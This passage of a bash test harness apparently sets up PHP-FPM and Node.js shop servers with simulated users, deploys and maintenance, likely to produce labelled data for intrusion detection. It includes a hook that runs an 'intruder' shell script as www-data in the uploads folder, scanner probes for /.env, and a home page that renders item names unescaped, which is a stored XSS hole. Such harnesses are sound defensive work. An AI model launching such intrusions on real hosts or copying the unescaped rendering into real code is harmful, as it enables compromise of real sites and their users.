      json:*) pf_curl "$from" "$cdir" /api/guestbook -H 'Content-Type: application/json' \
                --data-binary "{\"name\": \"app\", \"message\": \"$(head -c "$a" /dev/zero | tr '\0' j)\"}" ;;
      upload:*)
        head -c "$b" /dev/urandom >"$cdir/$a"
        pf_curl "$from" "$cdir" /upload -F "doc=@$cdir/$a" ;;
      review:*) pf_curl "$from" "$cdir" /review -d "product=$a&stars=$b&body=good+value" ;;
      *) die "phpfpm: unknown client step $s" ;;
    esac
  done
  rm -rf "$cdir"
}
# pf_curl SRC DIR PATH CURL_ARGS...: one request through the front from SRC with DIR's cookie jar.
pf_curl() {
  curl -s -o /dev/null --max-time 10 --interface "$1" -b "$2/jar" -c "$2/jar" \
    "http://127.0.0.1:$PHPFPM_PORT$3" "${@:4}" || true
}
# phpfpm_clients: the clients on stdin, one line each (SRC STEP...), all at once; waits.
phpfpm_clients() {
  local line pids=()
  while read -r line; do
    [ -n "$line" ] || continue
    # shellcheck disable=SC2086  # a line is the client's words
    phpfpm_client $line &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}
# phpfpm_get ROUND PER CONC NET FIRST COUNT PATH...: anonymous GETs through the front
# (spread_get), from NET.FIRST .. NET.(FIRST + COUNT - 1).
phpfpm_get() {
  spread_get "$PHPFPM_PORT" "$4" "$5" "$6" 7 3 "$1" "$2" "$3" "${@:7}"
}

# Mix A: anonymous visitors from 127.0.0.2-4, four requests per connection, three at a time:
# the home page and page 2, products 1-12 (another six each round), the guestbook, the
# assets, API pages 1-3 and products, the API's stats, ping and status pages (the monitor),
# the CSV export of orders, two scanner paths (404 from the front controller); three browsers:
# a user (u01-u10) signs in, fills a cart and checks out, another uploads a 2-3 kB
# receipt-N.pdf, an anonymous visitor signs the guestbook (and an app posts one as JSON);
# every third round a failed sign-in, every fourth the sales report (1.2 s: the slow log).
PF_ROUND=0
# shellcheck disable=SC2046  # one path per word
phpfpm_mix_a() {
  local r=$((PF_ROUND += 1)) u1 u2
  u1=u$(printf %02d $((1 + r % 10))) u2=u$(printf %02d $((1 + (r + 5) % 10)))
  phpfpm_get "$r" 4 3 127.0.0 2 3 / "/?page=2" $(squid_seq /product/ $((1 + r % 7)) $((6 + r % 7))) /guestbook \
    /assets/site.css /assets/app.js "/api/products?page=$((1 + r % 3))" "/api/product/$((1 + r % 12))" /api/stats \
    /ping "/fpm-status?json" /api/fpm-status /export/orders.csv /wp-login.php /.env
  {
    echo "127.0.0.2 login:$u1 /account cart:$((1 + r % 12)):1 cart:$((13 + r % 12)):2 /cart /api/cart checkout /account /logout"
    echo "127.0.0.3 login:$u2 upload:receipt-$r.pdf:$((2048 + r * 37 % 1024)) /account"
    echo "127.0.0.4 /guestbook sign:visitor$((r % 7)):$((40 + r % 200)) json:$((20 + r % 80))"
    [ $((r % 3)) != 0 ] || echo "127.0.0.3 badlogin:u0$((1 + r % 9))"
    [ $((r % 4)) != 0 ] || echo "127.0.0.2 /report/sales"
  } | phpfpm_clients
}
# Mix B: users u11-u20 and visitors from 127.0.0.5-8, one connection, then five at a time:
# the home page sorted and paged, products 40-90, guestbook pages 2-3, API pages 4-10 sorted
# by price, HEAD requests, the guestbook export, other missing paths; carts with a line
# removed, 20-60 kB scan-N.png uploads, longer guestbook entries; a graceful reload (USR2) in
# the fourth round of every ten.
PF_B_ROUNDS=0
# shellcheck disable=SC2046  # one path per word
phpfpm_mix_b() {
  local r=$((PF_ROUND += 1)) u
  PF_B_ROUNDS=$((PF_B_ROUNDS + 1))
  u=u$((11 + r % 10))
  phpfpm_get "$r" 6 1 127.0.0 5 4 "/?sort=price&page=$((2 + r % 5))" "/?sort=name" /guestbook?page=2 \
    "/api/products?page=$((4 + r % 7))&sort=price" /api/stats /ping
  phpfpm_get "$r" 3 5 127.0.0 5 4 $(squid_seq /product/ $((40 + r % 20)) $((55 + r % 20))) /guestbook?page=3 \
    /export/guestbook.csv /admin/ /old/index.html /xmlrpc.php "/api/product/$((60 + r % 30))"
  {
    echo "127.0.0.5 login:$u cart:$((40 + r % 30)):3 cart:$((70 + r % 20)):1 uncart:$((70 + r % 20)) checkout /account"
    echo "127.0.0.6 login:u$((11 + (r + 3) % 10)) upload:scan-$r.png:$((20000 + r * 997 % 40000)) /api/cart"
    echo "127.0.0.7 head:/ head:/guestbook sign:reader$((r % 5)):$((1000 + r * 31 % 2000))"
    echo "127.0.0.8 badlogin:u$((11 + r % 10)) /login"
  } | phpfpm_clients
  [ $((PF_B_ROUNDS % 10)) != 4 ] || phpfpm_reload
}
# Its scheduled jobs in training, in turn: Debian's sessionclean (as www-data, sessions not
# changed for 2 minutes) and the logs rotated (USR1), or a graceful reload (USR2, as
# `systemctl reload`); then bin/maint.php by the php CLI as www-data: uploads older than 120 s
# pruned, the database vacuumed, the daily report.
PF_JOBS=0
phpfpm_maintenance() {
  PF_JOBS=$((PF_JOBS + 1))
  if [ $((PF_JOBS % 2)) = 1 ]; then
    phpfpm_sessionclean 2
    phpfpm_rotate
  else
    phpfpm_reload
  fi
  phpfpm_php "$PF_CURRENT/bin/maint.php" --prune-uploads 120 --vacuum --report daily
}

# The generic intruder script as www-data in the upload directory (an exploited PHP page
# executing a shell).
phpfpm_inject() { inject_shell phpfpm www-data "$PF_UPLOADS"; }
phpfpm_labels() { write_labels phpfpm "$PF_UPLOADS"; }

# Held out. A new release deployed while the site runs: app/releases/r2 written (new PHP
# files: reviews, a search page, a shipping quote, an API v2, a new template and stylesheet),
# its schema migration (003: a reviews table, a new column, users u41-u60) run by the php CLI
# as www-data inside the cgroup, the symlink app/current switched to it and a graceful reload
# (USR2): opcache compiles the new files. Clients from 127.0.30.1-250 (another offset each
# round): the new users sign in, write reviews, fill carts, upload 10-300 kB files of other
# types (.jpg, .csv, .zip, .docx, .txt) and sign out; the new pages, searches, the API v2,
# products 100-240 and pages sorted by stock; every third round a burst of 24 shipping quotes
# at once (0.3 s each: the pool starts more workers). After the restart in the middle, the
# pools reconfigured and applied by a graceful reload: pool www's pm.max_children 6 -> 12 and
# a new pool reports on 127.0.0.1:$PF_REPORTS_PORT for /export/ and /report/ (the front
# re-reads its config). Every 20 s in turn, maint.php with other arguments (--prune-uploads 30
# --analyze --report weekly) and sessionclean (1 minute) with a rotation that gzips the
# generation before.
phpfpm_heldout_deploy() {
  phpfpm_release r2
  phpfpm_php "$PF_RELEASES/r2/bin/migrate.php"
  ln -sfn releases/r2 "$PF_DIR/app/current.new"
  mv -T "$PF_DIR/app/current.new" "$PF_CURRENT"
  phpfpm_reload
}
# shellcheck disable=SC2046  # one path per word
phpfpm_heldout_mix() {
  local r=$((PF_ROUND += 1)) ext=(jpg csv zip docx txt) terms=(lamp desk rug clock mug) n1 n2 old
  n1=u$((41 + r % 20)) n2=u$((41 + (r + 9) % 20)) old=u$(printf %02d $((1 + (r * 3) % 30)))
  phpfpm_get "$r" 3 6 127.0.30 1 250 "/?sort=stock&page=$((3 + r % 8))" $(squid_seq /product/ $((100 + r * 7 % 130)) $((108 + r * 7 % 130))) \
    "/search?q=${terms[r % 5]}" "/api/v2/products?page=$((1 + r % 6))" "/product/$((1 + r % 50))/reviews" \
    /assets/reviews.css "/guestbook?page=$((4 + r % 3))" /api/stats /ping /export/orders.csv
  {
    echo "127.0.30.$((1 + r * 37 % 250)) login:$n1 review:$((1 + r % 50)):$((1 + r % 5)) cart:$((100 + r % 90)):2 /cart checkout /logout"
    echo "127.0.30.$((1 + r * 53 % 250)) login:$n2 upload:export-$r.${ext[r % 5]}:$((10000 + r * 7919 % 290000)) /account /logout"
    echo "127.0.30.$((1 + r * 71 % 250)) login:$old /api/v2/products /quote/$((1 + r % 240)) sign:$old:$((300 + r % 500))"
  } | phpfpm_clients
  if [ $((r % 3)) = 0 ]; then
    phpfpm_get "$r" 1 24 127.0.30 1 250 $(squid_seq /quote/ $((r % 200)) $((r % 200 + 23)))
  fi
}
PF_HELDOUT_JOBS=0
phpfpm_heldout_job() {
  PF_HELDOUT_JOBS=$((PF_HELDOUT_JOBS + 1))
  if [ $((PF_HELDOUT_JOBS % 2)) = 1 ]; then
    phpfpm_php "$PF_CURRENT/bin/maint.php" --prune-uploads 30 --analyze --report weekly
  else
    phpfpm_sessionclean 1
    phpfpm_rotate gzip
  fi
}
phpfpm_heldout_reload() {
  phpfpm_config 12
  phpfpm_pool reports "$PF_REPORTS_PORT" 3 1 1 2
  admin phpfpm root /usr/sbin/php-fpm8.2 -t -y "$PF_CONF" -c "$PF_INI"
  phpfpm_reload
  phpfpm_front reports
}
# --- node ---------------------------------------------------------------------------------

NODE_PORT=19080                    # the cluster's one listener, 127.0.0.1 (shared by its workers)
NODE_USER=dwnode                   # the application's own system user (removed at the end)
NODE_DIR=$WORK/node                # releases/, current -> releases/<r>, data/, uploads/, log/, run/, backup/
NODE_CLIENT=$WORK/node-client      # the clients' files to upload (root, outside the cgroup)

# A Node.js web application on Debian's nodejs 18 and node-express (with node-morgan and
# node-cookie-parser), its own instance: `node $NODE_DIR/current/server.js` started as
# $NODE_USER in dw-eval/node. server.js is a cluster primary that forks the configured number
# of workers (config.json of the release: 2) and forks a new one whenever one exits; HUP
# re-reads the config and replaces the workers one by one from what current/ points to then
# (a rolling restart); USR2 has the workers reopen the access log (log rotation); TERM
# disconnects the workers, which close their listener and finish their requests, and the
# primary removes its pid file and exits. Each worker is the express application (app.js):
# static files from public/ (express.static), pages rendered from views/ by its own template
# module, a JSON REST API (routes/) on items kept in data/items.json by its data layer
# (lib/store.js: every change written to a temporary file and renamed over it, and appended to
# data/events.ndjson), logins whose tokens are kept in data/sessions.json (same way), uploads
# stored under uploads/<day>/<random name> (listed in data/uploads.ndjson), reports computed
# by a child node process (child_process.fork of workers/report.js, so a long aggregation does
# not stall the event loop) into data/reports/, a health endpoint, and an access log
# (morgan, combined format) in log/access.log. The code is root-owned under releases/; the
# user owns data/, uploads/, log/, run/ and backup/. Its maintenance runs as the user inside
# the cgroup: `node scripts/compact.js` (items and events compacted, old sessions dropped),
# `node scripts/rotate.js` (access.log -> .1 -> .2, USR2 to the primary) and a tar of data/
# into backup/.
node_cleanup() { userdel "$NODE_USER" >/dev/null 2>&1 || true; }
node_provision() {
  if postfix_listening "$NODE_PORT"; then die "port $NODE_PORT is in use"; fi
  # The user lives outside $WORK: removed by the shared cleanup.
  HOST_CLEANUP+=(node_cleanup)
  id -u "$NODE_USER" >/dev/null 2>&1 ||
    useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$NODE_USER"
  rm -rf "$NODE_DIR" "$NODE_CLIENT"
  mkdir -p "$NODE_DIR"/{releases,data/reports,uploads,log,run,backup} "$NODE_CLIENT"
  node_release r1 2
  ln -sfn releases/r1 "$NODE_DIR/current"
  node_seed >"$NODE_DIR/data/items.json"
  printf '{"alice":"%s","bob":"%s","carol":"%s","dave":"%s","erin":"%s"}\n' \
    "$(node_hash alice)" "$(node_hash bob)" "$(node_hash carol)" "$(node_hash dave)" "$(node_hash erin)" \
    >"$NODE_DIR/data/users.json"
  echo '{}' >"$NODE_DIR/data/sessions.json"
  : >"$NODE_DIR/data/events.ndjson"
  : >"$NODE_DIR/data/uploads.ndjson"
  chown -R "$NODE_USER:$NODE_USER" "$NODE_DIR"/{data,uploads,log,run,backup}
  chmod 750 "$NODE_DIR"/{data,uploads,backup}
  # The clients' files: photos, scans and notes of various sizes.
  vsftpd_fill "$NODE_CLIENT/photo-" .jpg 6 40000
  vsftpd_fill "$NODE_CLIENT/scan-" .pdf 4 120000
  vsftpd_fill "$NODE_CLIENT/notes-" .txt 3 1500
  vsftpd_fill "$NODE_CLIENT/sheet-" .csv 3 8000
  NODE_ROUND=0
}
# node_hash USER: the salted SHA-256 of USER's password as lib/sessions.js checks it.
node_pass() { echo "dw-eval-$1-node"; }
node_hash() { printf '%s' "dw-eval:$(node_pass "$1")" | sha256sum | cut -d' ' -f1; }
# node_seed: data/items.json before the first start: 120 items of a small shop.
node_seed() {
  local i
  printf '{"next":121,"items":{'
  for i in $(seq 1 120); do
    [ "$i" = 1 ] || printf ','
    printf '"%s":{"id":%s,"name":"item %s","price":%s,"stock":%s,"updated":"2026-12-01T00:00:00Z"}' \
      "$i" "$i" "$i" $((100 + i * 7 % 900)) $((i * 13 % 50))
  done
  printf '}}\n'
}

# node_release NAME WORKERS [ROUTE...]: writes the release releases/NAME (root-owned): the
# cluster primary, the application, its modules, views, static files and scripts; its
# config.json asks for WORKERS workers and mounts the extra route modules ROUTE (written by
# the caller into routes/).
node_release() {
  local r=$NODE_DIR/releases/$1 extra="" x
  for x in "${@:3}"; do extra+="${extra:+,}\"$x\""; done
  mkdir -p "$r"/{lib,routes,views,public/css,public/js,public/img,scripts,workers}
  printf '{"release":"%s","home":"%s","port":%s,"workers":%s,"routes":[%s]}\n' \
    "$1" "$NODE_DIR" "$NODE_PORT" "$2" "$extra" >"$r/config.json"
  printf '{"name":"dw-shop","version":"1.%s.0","private":true,"main":"server.js"}\n' "${1#r}" >"$r/package.json"
  cat >"$r/server.js" <<'JS'
'use strict';
// The cluster primary keeps config.workers workers running (a new one for each that exits);
// the workers serve the application. HUP: a rolling restart from what current/ points to
// now; USR2: the workers reopen their logs; TERM: a graceful shutdown.
const cluster = require('cluster');
const fs = require('fs');
const path = require('path');

// process.argv[1] is current/server.js (the symlink is not resolved), so a worker forked after
// a release switch runs the new release.
const configFile = path.join(path.dirname(process.argv[1]), 'config.json');
const readConfig = () => JSON.parse(fs.readFileSync(configFile, 'utf8'));
let config = readConfig();

if (cluster.isPrimary) {
  const pidFile = path.join(config.home, 'run', 'node.pid');
  const log = (msg) => fs.appendFileSync(path.join(config.home, 'log', 'cluster.log'),
    `${new Date().toISOString()} primary ${process.pid}: ${msg}\n`);
  let stopping = false;
  let rolling = false;
  fs.writeFileSync(pidFile, `${process.pid}\n`);
  const fork = () => new Promise((resolve) => {
    const w = cluster.fork();
    w.once('listening', () => resolve(w));
    w.once('exit', () => resolve(w));
  });
  const retire = (w) => new Promise((resolve) => {
    if (w.isDead()) return resolve();
    w.once('exit', resolve);
    w.disconnect();
    setTimeout(() => { if (!w.isDead()) w.process.kill('SIGKILL'); }, 5000).unref();
  });
  cluster.on('exit', (w, code, signal) => {
    if (stopping || w.exitedAfterDisconnect) return;
    log(`worker ${w.process.pid} died (${signal || code}), forking a new one`);
    fork();
  });
  process.on('SIGHUP', async () => {
    if (rolling || stopping) return;
    rolling = true;
    config = readConfig();
    log(`rolling restart to release ${config.release}, ${config.workers} workers`);
    const old = Object.values(cluster.workers);
    for (const w of old) {
      await fork();
      await retire(w);
    }
    for (let n = old.length; n < config.workers; n++) await fork();
    for (const w of Object.values(cluster.workers).slice(config.workers)) await retire(w);
    rolling = false;
  });
  process.on('SIGUSR2', () => {
    for (const w of Object.values(cluster.workers)) w.process.kill('SIGUSR2');
  });
  process.on('SIGTERM', async () => {
    stopping = true;
    log('shutting down');
    await Promise.all(Object.values(cluster.workers).map(retire));
    fs.rmSync(pidFile, { force: true });
    process.exit(0);
  });
  log(`starting release ${config.release} with ${config.workers} workers`);
  for (let i = 0; i < config.workers; i++) fork();
} else {
  const app = require('./app')(config);
  const server = app.listen(config.port, '127.0.0.1');
  process.on('SIGUSR2', () => app.locals.reopenLogs());
  process.on('SIGTERM', () => server.close(() => process.exit(0)));
}
JS
  cat >"$r/app.js" <<'JS'
'use strict';
// The express application of one worker: static files, pages, the API and its logs.
const path = require('path');
const express = require('express');
const morgan = require('morgan');
const cookieParser = require('cookie-parser');

module.exports = (config) => {
  const logs = require('./lib/logs')(config);
  const store = require('./lib/store')(config);
  const sessions = require('./lib/sessions')(config);
  const app = express();
  app.engine('html', require('./lib/views').render);
  app.set('views', path.join(__dirname, 'views'));
  app.set('view engine', 'html');
  app.set('trust proxy', 'loopback');
  app.locals.release = config.release;
  app.locals.reopenLogs = logs.reopen;
  app.use(morgan('combined', { stream: logs.access }));
  app.use(cookieParser());
  app.use('/static', express.static(path.join(__dirname, 'public'), { maxAge: '1h' }));
  app.use(require('./routes/health')(config));
  app.use(require('./routes/pages')(store));
  app.use('/api', require('./routes/auth')(sessions));
  app.use('/api/items', require('./routes/items')(store, sessions));
  app.use('/api/uploads', require('./routes/uploads')(config, sessions));
  app.use('/api/reports', require('./routes/reports')(config, sessions));
  for (const name of config.routes) app.use(require(`./routes/${name}`)({ config, store, sessions }));
  app.use((req, res) => res.status(404).render('error', { title: 'Not found', message: req.path }));
  app.use((err, req, res, next) => {
    logs.error(`${req.method} ${req.path}: ${err.stack || err}`);
    res.status(err.status || 500).json({ error: err.expose ? err.message : 'internal error' });
  });
  return app;
};
JS
  cat >"$r/lib/logs.js" <<'JS'
'use strict';
// The access log (appended by morgan) and the error log; reopen() after a rotation.
const fs = require('fs');
const path = require('path');

module.exports = (config) => {
  const dir = path.join(config.home, 'log');
  let access = fs.createWriteStream(path.join(dir, 'access.log'), { flags: 'a' });
  return {
    access: { write: (line) => access.write(line) },
    error: (msg) => fs.appendFileSync(path.join(dir, 'error.log'), `${new Date().toISOString()} ${process.pid} ${msg}\n`),
    reopen: () => {
      const old = access;
      access = fs.createWriteStream(path.join(dir, 'access.log'), { flags: 'a' });
      old.end();
    },
  };
};
JS
  cat >"$r/lib/atomic.js" <<'JS'
'use strict';
// JSON files replaced atomically: written to a temporary file in the same directory, then
// renamed over the old one, so a reader never sees half a file.
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');

exports.read = (file, fallback) => {
  try { return JSON.parse(fs.readFileSync(file, 'utf8')); } catch (e) {
    if (e.code === 'ENOENT') return fallback;
    throw e;
  }
};
exports.write = (file, value) => {
  const tmp = path.join(path.dirname(file), `.${path.basename(file)}.${crypto.randomBytes(4).toString('hex')}.tmp`);
  fs.writeFileSync(tmp, JSON.stringify(value));
  fs.renameSync(tmp, file);
};
exports.append = (file, record) => fs.appendFileSync(file, `${JSON.stringify(record)}\n`);
JS
  cat >"$r/lib/store.js" <<'JS'
'use strict';
// The data layer: items in data/items.json, each change also appended to data/events.ndjson.
const path = require('path');
const atomic = require('./atomic');

module.exports = (config) => {
  const file = path.join(config.home, 'data', 'items.json');
  const events = path.join(config.home, 'data', 'events.ndjson');
  const load = () => atomic.read(file, { next: 1, items: {} });
  const save = (db, event) => {
    atomic.write(file, db);
    atomic.append(events, { at: new Date().toISOString(), ...event });
  };
  return {
    list: ({ offset = 0, limit = 20, tag } = {}) => Object.values(load().items)
      .filter((it) => !tag || (it.tags || []).includes(tag)).slice(offset, offset + limit),
    count: () => Object.keys(load().items).length,
    get: (id) => load().items[id],
    create: (fields, user) => {
      const db = load();
      const item = { ...fields, id: db.next, updated: new Date().toISOString() };
      db.items[db.next++] = item;
      save(db, { op: 'create', id: item.id, user });
      return item;
    },
    update: (id, fields, user) => {
      const db = load();
      if (!db.items[id]) return undefined;
      db.items[id] = { ...db.items[id], ...fields, id: Number(id), updated: new Date().toISOString() };
      save(db, { op: 'update', id: Number(id), user });
      return db.items[id];
    },
    remove: (id, user) => {
      const db = load();
      if (!db.items[id]) return false;
      delete db.items[id];
      save(db, { op: 'delete', id: Number(id), user });
      return true;
    },
  };
};
JS
  cat >"$r/lib/sessions.js" <<'JS'
'use strict';
// Logins: users and their password hashes in data/users.json, session tokens in
// data/sessions.json (replaced atomically).
const crypto = require('crypto');
const path = require('path');
const atomic = require('./atomic');

module.exports = (config) => {
  const users = path.join(config.home, 'data', 'users.json');
  const file = path.join(config.home, 'data', 'sessions.json');
  const hash = (password) => crypto.createHash('sha256').update(`dw-eval:${password}`).digest('hex');
  const tokenOf = (req) => (req.get('authorization') || '').replace(/^Bearer /, '') || req.cookies.sid;
  return {
    login: (user, password) => {
      const known = atomic.read(users, {})[user];
      if (!known || known !== hash(password || '')) return undefined;
      const token = crypto.randomBytes(16).toString('hex');
      const all = atomic.read(file, {});
      all[token] = { user, since: Date.now() };
      atomic.write(file, all);
      return token;
    },
    logout: (req) => {
      const all = atomic.read(file, {});
      delete all[tokenOf(req)];
      atomic.write(file, all);
    },
    // Express middleware: the request's user, or 401.
    required: (req, res, next) => {
      const s = atomic.read(file, {})[tokenOf(req)];
      if (!s) return res.status(401).json({ error: 'login required' });
      req.user = s.user;
      next();
    },
  };
};
JS
  cat >"$r/lib/views.js" <<'JS'
'use strict';
// A small template engine: {{name}} replaced by the escaped value, {{{name}}} unescaped; every
// page is put into views/layout.html.
const fs = require('fs');
const path = require('path');

const escape = (s) => String(s).replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
const fill = (text, values) => text
  .replace(/\{\{\{(\w+)\}\}\}/g, (_, k) => (values[k] === undefined ? '' : values[k]))
  .replace(/\{\{(\w+)\}\}/g, (_, k) => (values[k] === undefined ? '' : escape(values[k])));

exports.render = (file, options, callback) => {
  fs.readFile(file, 'utf8', (err, text) => {
    if (err) return callback(err);
    const body = fill(text, options);
    fs.readFile(path.join(path.dirname(file), 'layout.html'), 'utf8', (err2, layout) => {
      if (err2) return callback(err2);
      callback(null, fill(layout, { ...options, body }));
    });
  });
};
JS
  cat >"$r/routes/health.js" <<'JS'
'use strict';
// GET /healthz: the load balancer's probe.
const express = require('express');

module.exports = (config) => express.Router().get('/healthz', (req, res) => {
  res.json({ status: 'ok', release: config.release, worker: process.pid, uptime: Math.round(process.uptime()) });
});
JS
  cat >"$r/routes/pages.js" <<'JS'
'use strict';
// The HTML pages: the home page, an item's page, the about page.
const express = require('express');

module.exports = (store) => {
  const router = express.Router();
  router.get('/', (req, res) => {
    const items = store.list({ limit: 10 }).map((it) => `<li><a href="/items/${it.id}">${it.name}</a></li>`).join('');
    res.render('index', { title: 'dw-shop', count: store.count(), items });
  });
  router.get('/items/:id(\\d+)', (req, res, next) => {
    const item = store.get(req.params.id);
    if (!item) return next();
    res.render('item', { title: item.name, ...item });
  });
  router.get('/about', (req, res) => res.render('about', { title: 'About dw-shop' }));
  return router;
};
JS
  cat >"$r/routes/auth.js" <<'JS'
'use strict';
// POST /api/login {user, password} -> {token} (also a cookie); POST /api/logout.
const express = require('express');

module.exports = (sessions) => {
  const router = express.Router();
  router.post('/login', express.json(), (req, res) => {
    const token = sessions.login(req.body.user, req.body.password);
    if (!token) return res.status(403).json({ error: 'bad credentials' });
    res.cookie('sid', token, { httpOnly: true, sameSite: 'strict' }).json({ token });
  });
  router.post('/logout', sessions.required, (req, res) => {
    sessions.logout(req);
    res.clearCookie('sid').json({ ok: true });
  });
  return router;
};
JS
  cat >"$r/routes/items.js" <<'JS'
'use strict';
// The items API: list and read for everyone, create, change and delete for logged-in users.
const express = require('express');

module.exports = (store, sessions) => {
  const router = express.Router();
  const fields = (body) => {
    const out = {};
    for (const k of ['name', 'price', 'stock', 'tags']) if (body[k] !== undefined) out[k] = body[k];
    return out;
  };
  router.get('/', (req, res) => res.json(store.list({ offset: Number(req.query.offset) || 0, limit: Number(req.query.limit) || 20, tag: req.query.tag })));
  router.get('/:id(\\d+)', (req, res) => {
    const item = store.get(req.params.id);
    if (!item) return res.status(404).json({ error: 'no such item' });
    res.json(item);
  });
  router.post('/', sessions.required, express.json(), (req, res) => {
    if (!req.body.name) return res.status(400).json({ error: 'name required' });
    res.status(201).json(store.create(fields(req.body), req.user));
  });
  const change = (req, res) => {
    const item = store.update(req.params.id, fields(req.body), req.user);
    if (!item) return res.status(404).json({ error: 'no such item' });
    res.json(item);
  };
  router.put('/:id(\\d+)', sessions.required, express.json(), change);
  router.patch('/:id(\\d+)', sessions.required, express.json(), change);
  router.delete('/:id(\\d+)', sessions.required, (req, res) => {
    if (!store.remove(req.params.id, req.user)) return res.status(404).json({ error: 'no such item' });
    res.status(204).end();
  });
  return router;
};
JS
  cat >"$r/routes/uploads.js" <<'JS'
'use strict';
// POST /api/uploads?name=FILE (the raw body): stored as uploads/<day>/<random>.<ext>, listed
// in data/uploads.ndjson; GET /api/uploads/<day>/<file> serves it back.
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const express = require('express');
const atomic = require('../lib/atomic');

module.exports = (config, sessions) => {
  const root = path.join(config.home, 'uploads');
  const allowed = new Set(['.jpg', '.png', '.pdf', '.txt', '.csv', '.json', '.zip', '.webp']);
  const router = express.Router();
  router.post('/', sessions.required, express.raw({ type: '*/*', limit: '4mb' }), (req, res) => {
    const ext = path.extname(String(req.query.name || '')).toLowerCase();
    if (!allowed.has(ext) || !req.body.length) return res.status(415).json({ error: 'unsupported upload' });
    const day = new Date().toISOString().slice(0, 10);
    fs.mkdirSync(path.join(root, day), { recursive: true });
    const name = `${crypto.randomBytes(12).toString('hex')}${ext}`;
    fs.writeFileSync(path.join(root, day, name), req.body, { flag: 'wx' });
    atomic.append(path.join(config.home, 'data', 'uploads.ndjson'), { day, name, original: req.query.name, size: req.body.length, user: req.user });
    res.status(201).json({ url: `/api/uploads/${day}/${name}` });
  });
  router.get('/:day(\\d{4}-\\d{2}-\\d{2})/:name([0-9a-f]+\\.\\w+)', (req, res, next) => {
    res.sendFile(path.join(root, req.params.day, req.params.name), (err) => err && next());
  });
  return router;
};
JS
  cat >"$r/routes/reports.js" <<'JS'
'use strict';
// GET /api/reports/<kind>: computed by a child node process (workers/report.js), so a long
// aggregation does not hold up this worker's other requests; written into data/reports/.
const { fork } = require('child_process');
const path = require('path');
const express = require('express');

module.exports = (config, sessions) => express.Router().get('/:kind(summary|stock|prices|by-tag)', sessions.required, (req, res, next) => {
  const child = fork(path.join(__dirname, '..', 'workers', 'report.js'), [config.home, req.params.kind], { stdio: 'ignore', serialization: 'json' });
  let answered = false;
  child.on('message', (report) => { answered = true; res.json(report); });
  child.on('exit', (code) => { if (!answered) next(new Error(`report ${req.params.kind} exited with ${code}`)); });
});
JS
  cat >"$r/workers/report.js" <<'JS'
'use strict';
// A report over the items, run as a child of a worker: node workers/report.js HOME KIND.
const path = require('path');
const atomic = require('../lib/atomic');

const [home, kind] = process.argv.slice(2);
const items = Object.values(atomic.read(path.join(home, 'data', 'items.json'), { items: {} }).items);
const report = { kind, at: new Date().toISOString(), items: items.length };
if (kind === 'summary' || kind === 'prices') {
  const prices = items.map((it) => Number(it.price) || 0).sort((a, b) => a - b);
  report.total = prices.reduce((a, b) => a + b, 0);
  report.median = prices[Math.floor(prices.length / 2)] || 0;
}
if (kind === 'summary' || kind === 'stock') report.outOfStock = items.filter((it) => !it.stock).map((it) => it.id);
if (kind === 'by-tag') {
  report.tags = {};
  for (const it of items) for (const t of it.tags || ['untagged']) report.tags[t] = (report.tags[t] || 0) + 1;
}
atomic.write(path.join(home, 'data', 'reports', `${kind}-${report.at.slice(0, 16).replace(/[-:T]/g, '')}.json`), report);
process.send(report, () => process.exit(0));
JS
  cat >"$r/scripts/compact.js" <<'JS'
'use strict';
// Maintenance: node scripts/compact.js [--keep N] [--max-age-min M]: data/events.ndjson cut to
// its last N lines (default 300), sessions older than M minutes (default 30) dropped,
// reports past the newest 20 deleted, data/items.json rewritten; each file replaced atomically.
const fs = require('fs');
const path = require('path');
const atomic = require('../lib/atomic');

const config = require('../config.json');
const arg = (name, dflt) => { const i = process.argv.indexOf(name); return i > 0 ? Number(process.argv[i + 1]) : dflt; };
const data = path.join(config.home, 'data');
const events = fs.readFileSync(path.join(data, 'events.ndjson'), 'utf8').split('\n').filter(Boolean);
const tmp = path.join(data, '.events.ndjson.compact');
fs.writeFileSync(tmp, events.slice(-arg('--keep', 300)).map((l) => `${l}\n`).join(''));
fs.renameSync(tmp, path.join(data, 'events.ndjson'));
const cutoff = Date.now() - arg('--max-age-min', 30) * 60000;
const sessions = atomic.read(path.join(data, 'sessions.json'), {});
for (const [t, s] of Object.entries(sessions)) if (s.since < cutoff) delete sessions[t];
atomic.write(path.join(data, 'sessions.json'), sessions);
const reports = fs.readdirSync(path.join(data, 'reports')).sort();
for (const f of reports.slice(0, -20)) fs.unlinkSync(path.join(data, 'reports', f));
atomic.write(path.join(data, 'items.json'), atomic.read(path.join(data, 'items.json'), {}));
console.log(`compacted: ${events.length} events, ${Object.keys(sessions).length} sessions kept`);
JS
  cat >"$r/scripts/rotate.js" <<'JS'
'use strict';
// Maintenance: node scripts/rotate.js [--keep N]: log/access.log -> access.log.1 -> ... ->
// .N (default 2), then USR2 to the cluster primary (run/node.pid), whose workers reopen it.
const fs = require('fs');
const path = require('path');

const config = require('../config.json');
const i = process.argv.indexOf('--keep');
const keep = i > 0 ? Number(process.argv[i + 1]) : 2;
const log = path.join(config.home, 'log', 'access.log');
for (let n = keep - 1; n >= 1; n--) if (fs.existsSync(`${log}.${n}`)) fs.renameSync(`${log}.${n}`, `${log}.${n + 1}`);
if (fs.existsSync(log)) fs.renameSync(log, `${log}.1`);
process.kill(Number(fs.readFileSync(path.join(config.home, 'run', 'node.pid'), 'utf8')), 'SIGUSR2');
JS
  cat >"$r/views/layout.html" <<'HTML'
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{{title}}</title>
<link rel="stylesheet" href="/static/css/site.css"><script src="/static/js/app.js" defer></script></head>
<body><header><img src="/static/img/logo.png" alt="dw-shop"> <a href="/">dw-shop</a> <a href="/about">about</a></header>
<main>{{{body}}}</main><footer>release {{release}}</footer></body></html>
HTML
  echo '<h1>{{title}}</h1><p>{{count}} items</p><ul>{{{items}}}</ul>' >"$r/views/index.html"
  echo '<h1>{{name}}</h1><p>price {{price}}, {{stock}} in stock, updated {{updated}}</p>' >"$r/views/item.html"
  echo '<h1>{{title}}</h1><p>A small shop, served by a cluster of node workers.</p>' >"$r/views/about.html"
  echo '<h1>{{title}}</h1><p>{{message}}</p>' >"$r/views/error.html"
  printf 'body { font-family: sans-serif; margin: 2em; }\nheader a { margin-right: 1em; }\n%.0s' $(seq 1 40) >"$r/public/css/site.css"
